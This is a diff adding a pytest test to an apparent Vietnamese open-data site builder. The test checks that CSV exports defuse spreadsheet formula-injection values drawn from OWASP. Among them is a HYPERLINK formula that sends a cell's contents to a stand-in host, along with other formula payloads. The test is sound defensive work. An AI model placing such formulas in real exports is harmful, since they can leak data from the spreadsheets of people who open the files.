@@ -99,3 +99,77 @@ def test_hidden_items_are_in_no_dataset(mini: Path, capsys):
     for hidden in ("ban-nhap-an", "chua-den-ngay", "het-han-roi", "tin-an", "Tin ẩn"):
         assert hidden not in text, hidden
     assert validate(str(mini / "site" / "du-lieu" / "datapackage.json")).valid
+
+
+# What a spreadsheet runs when a cell begins with it (OWASP's CSV Injection page), and OWASP's own
+# example of a separator and a quote inside one.
+HOSTILE = ['=HYPERLINK("https://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", " =1+2",
+           '=1+2";=1+2', "'=đã có dấu nháy"]
+
+
+def _y(value: str) -> str:
+    return json.dumps(value, ensure_ascii=False)  # a JSON string is a YAML scalar
+
+
+def test_no_text_cell_runs_as_a_formula_and_numbers_stay_numbers(mini: Path, capsys):
+    """Every free-text field that reaches a CSV carries a value a spreadsheet would run: each comes
+    back, read with the csv module, as that value with one `'` before it; the JSON keeps it as
+    written; figures (a negative change included) stay bare numbers; Frictionless still validates."""
+    h = HOSTILE
+    src = "  source:\n    - url: https://example.org/a\n"
+    write(mini, {
+        "site_data/organisations/x.yml": (f"- id: co-quan-x\n  name: {_y(h[0])}\n  kind: so-cong-thuong\n  province: Hà Nội\n"
+                                          f"  address: {_y(h[1])}\n  phone: +84 24 3825 1234\n  email: =x@example.org\n"
+                                          f"  name_en:\n    text: {_y(h[2])}\n    source: {{url: https://example.org/en}}\n{src}"),
+        "site_data/products/x.yml": (f"- id: san-pham-x\n  name: {_y(h[3])}\n  establishment: {_y(h[4])}\n  province: Hà Nội\n"
+                                     f"  commune: {_y(h[5])}\n  decision: {_y(h[6])}\n  year: 2024\n{src}"),
+        "site_data/projects/x.yml": (f"- id: de-an-x\n  title: {_y(h[7])}\n  kind: de-an\n  province: Hà Nội\n"
+                                     f"  beneficiary: {_y(h[0])}\n  support_vnd: 300000000\n{src}"),
+        "site_data/legal/x.yml": (f"- id: van-ban-x\n  type: quyet-dinh\n  number: -12/2025/QĐ-UBND\n  issuer: {_y(h[1])}\n"
+                                  f"  signer: {_y(h[2])}\n  issued: 2025-01-02\n  abstract: {_y(h[3])}\n"
+                                  f"  title_en:\n    text: {_y(h[4])}\n    source: {{url: https://example.org/en}}\n{src}"),
+        "site_data/events/x.yml": f"- id: su-kien-x\n  title: {_y(h[5])}\n  kind: hoi-nghi\n  start: 2026-03-02\n  place: {_y(h[6])}\n{src}",
+        "site_data/support_levels.yml": (f"- id: muc-x\n  item: muc-x\n  activity: nang-cao-quan-ly\n  what: {_y(h[7])}\n"
+                                         f"  per: {_y(h[0])}\n{src}"),
+        "site_data/statistics/a.yml": "quantity: bien-dong-kinh-phi\nscope: ca-nuoc\nperiod: 2023\nvalue: -5\n" + src.replace("  ", "", 1).replace("    -", "  -"),
+        "site_data/statistics/b.yml": "quantity: bien-dong-kinh-phi\nscope: ca-nuoc\nperiod: 2024\nvalue: 3.5\n" + src.replace("  ", "", 1).replace("    -", "  -"),
+        "content/tin-tuc/tin-x.md": f"---\ntitle: {_y(h[1])}\ndate: 2025-01-02\nsummary: {_y(h[2])}\nsource: https://example.org/a\n---\nNội dung.\n",
+    })
+    code, _, err = run_cli(["--root", str(mini), "build", "--build-date", "2026-11-22"], capsys)
+    assert code == 0, err
+    site = mini / "site"
+    wanted = {("co-quan", "ten"): h[0], ("co-quan", "dia_chi"): h[1], ("co-quan", "ten_tieng_anh"): h[2],
+              ("co-quan", "dien_thoai"): "+84 24 3825 1234", ("co-quan", "email"): "=x@example.org",
+              ("san-pham", "ten"): h[3], ("san-pham", "co_so"): h[4], ("san-pham", "xa"): h[5], ("san-pham", "quyet_dinh"): h[6],
+              ("de-an", "ten"): h[7], ("de-an", "co_so_thu_huong"): h[0],
+              ("van-ban", "so_hieu"): "-12/2025/QĐ-UBND", ("van-ban", "co_quan_ban_hanh"): h[1], ("van-ban", "nguoi_ky"): h[2],
+              ("van-ban", "trich_yeu"): h[3], ("van-ban", "trich_yeu_tieng_anh"): h[4],
+              ("su-kien", "ten"): h[5], ("su-kien", "dia_diem"): h[6], ("muc-ho-tro", "muc"): h[7], ("muc-ho-tro", "tinh_theo"): h[0],
+              ("tin-tuc", "tieu_de"): h[1], ("tin-tuc", "tom_tat"): h[2]}
+    for (name, column), value in wanted.items():
+        [row] = rows(site, name)
+        [record] = json.loads((site / "du-lieu" / f"{name}.json").read_bytes())
+        assert record[column] == value.strip(), (name, column)  # JSON is not opened by spreadsheets: as written (trimmed by the models)
+        assert row[column] == "'" + record[column], (name, column)
+    package = json.loads((site / "du-lieu/datapackage.json").read_bytes())
+    assert "OWASP" in package["description"] and "'" in package["description"]
+    numbers = []
+    for resource in package["resources"]:
+        kinds = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
+        for row in rows(site, resource["name"]):
+            for column, cell in row.items():
+                if kinds[column] == "string":
+                    assert cell.lstrip(" \u00a0")[:1] not in set("=+-@\t\r\n"), (resource["name"], column, cell)
+                elif kinds[column] in ("number", "integer") and cell:
+                    numbers.append(float(cell))
+    assert -5 in numbers and 300_000_000 in numbers  # a negative figure is a number, with no quote
+    raw = (site / "du-lieu/so-lieu.csv").read_text(encoding="utf-8-sig")
+    assert ",-5," in raw and ",3.5," in raw
+    assert '"\'=1+2"";=1+2"' in (site / "du-lieu/san-pham.csv").read_text(encoding="utf-8-sig")  # OWASP's example, escaped as it shows
+    report = validate(str(site / "du-lieu/datapackage.json"))
+    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "message"])[:10]
+    [chart] = [p for p in (site / "so-lieu/bieu-do").glob("*.csv")]
+    table = list(csv.reader(io.StringIO(chart.read_text(encoding="utf-8-sig"))))
+    assert [[float(v) for v in r[3:5]] for r in table[1:]] == [[-5, -5], [3.5, 3.5]]
+    assert "\n\"Cả nước\",\"2023\",\"bien-dong-kinh-phi\",-5.0,-5.0," in chart.read_text(encoding="utf-8-sig")  # bare: a number
+    assert all(cell[:1] not in set("=+-@\t\r\n") for r in table[1:] for i, cell in enumerate(r) if i not in (3, 4))
